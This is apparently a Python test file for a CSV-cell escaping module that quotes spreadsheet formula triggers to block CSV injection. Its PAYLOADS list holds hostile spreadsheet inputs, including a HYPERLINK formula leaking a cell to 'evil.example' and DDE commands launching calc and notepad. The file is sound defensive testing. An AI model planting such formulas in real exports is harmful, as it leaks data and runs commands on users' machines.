"""Formula cells neutralised on the way out and restored on the way in (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from workbench.core.csvcell import TRIGGERS, allow_long_cells, neutralise, restore

# The payloads OWASP's "CSV Injection" page and the issue report give.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def test_every_payload_is_quoted_and_comes_back():
    for payload in PAYLOADS:
        safe = neutralise(payload)
        assert safe == "'" + payload
        assert safe[0] not in TRIGGERS
        assert restore(safe) == payload


def test_plain_numbers_and_ordinary_text_are_left_alone():
    for value in ["-0.25", "+3", "1e-05", "-1E+3", ".5", "42", "", "copied", "'quoted"]:
        assert neutralise(value) == value
        assert restore(value) == value


def test_a_value_that_already_starts_with_a_quote_before_a_formula_gets_one_more():
    assert neutralise("'=1+1") == "''=1+1"
    assert restore("''=1+1") == "'=1+1"


@given(st.text())
def test_restore_undoes_neutralise(value):
    assert restore(neutralise(value)) == value


@given(st.text())
def test_a_neutralised_cell_never_starts_a_formula(value):
    safe = neutralise(value)
    assert not safe or safe[0] not in TRIGGERS or _is_number(safe)


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1.e")))
def test_the_escape_is_one_to_one_on_tricky_alphabets(value):
    assert restore(neutralise(value)) == value


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_cells_longer_than_the_csv_modules_default_limit_are_read():
    allow_long_cells()
    cell = "x" * 1_000_000
    [row] = list(csv.reader(io.StringIO(f'"{cell}"\n', newline="")))
    assert row == [cell]
